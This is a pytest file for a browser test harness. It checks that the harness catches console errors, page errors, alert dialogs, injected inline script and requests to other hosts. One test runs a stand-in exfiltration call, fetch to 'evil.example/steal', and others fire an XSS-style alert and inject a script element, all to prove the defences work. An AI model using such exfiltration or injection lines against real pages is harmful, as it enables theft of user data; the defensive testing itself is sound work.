"""The browser harness itself: the watch must catch what the browser tests
rely on it to catch (console errors, page errors, dialogs, requests that
leave the machine), or every other browser test proves less than it says."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.browser


def _problems(ui) -> list[str]:
    seen, ui.problems = ui.problems, []
    return seen


async def test_the_watch_catches_console_and_page_errors_and_dialogs(ui):
    page = await ui.new_page()
    await ui.goto(page, "/login")
    await page.evaluate("console.error('harness: boom')")
    await page.evaluate("setTimeout(() => { throw new Error('harness: kaboom') })")
    await page.evaluate("setTimeout(() => alert('harness: xss'))")
    await page.wait_for_timeout(200)
    seen = "\n".join(_problems(ui))
    assert "console error" in seen and "harness: boom" in seen
    assert "page error" in seen and "harness: kaboom" in seen
    assert "alert dialog" in seen and "harness: xss" in seen


async def test_the_watch_blocks_and_reports_requests_to_other_hosts(ui):
    page = await ui.new_page()
    await page.goto("about:blank")  # no CSP here: only the harness stands guard
    await page.evaluate("() => fetch('http://evil.example/steal?c=1').catch(() => null)")
    seen = "\n".join(_problems(ui))
    assert "request to a non-local host: GET http://evil.example/steal?c=1" in seen


async def test_pages_refuse_inline_script_by_csp(ui):
    """An injected inline script does not run, and the refusal is reported."""
    page = await ui.new_page()
    await ui.goto(page, "/login")
    await page.evaluate(
        """() => {
            const s = document.createElement('script');
            s.textContent = "window.__ran = true";
            document.body.appendChild(s);
        }"""
    )
    await page.wait_for_timeout(100)
    assert await page.evaluate("window.__ran === undefined")
    seen = "\n".join(_problems(ui))
    assert "Content Security Policy" in seen


async def test_allow_console_excuses_only_what_matches(ui):
    page = await ui.new_page()
    await ui.goto(page, "/login")
    ui.allow_console(r"^expected: ")
    await page.evaluate("console.error('expected: fine')")
    await page.evaluate("console.error('unexpected: not fine')")
    await page.wait_for_timeout(100)
    seen = _problems(ui)
    assert len(seen) == 1 and "unexpected: not fine" in seen[0]
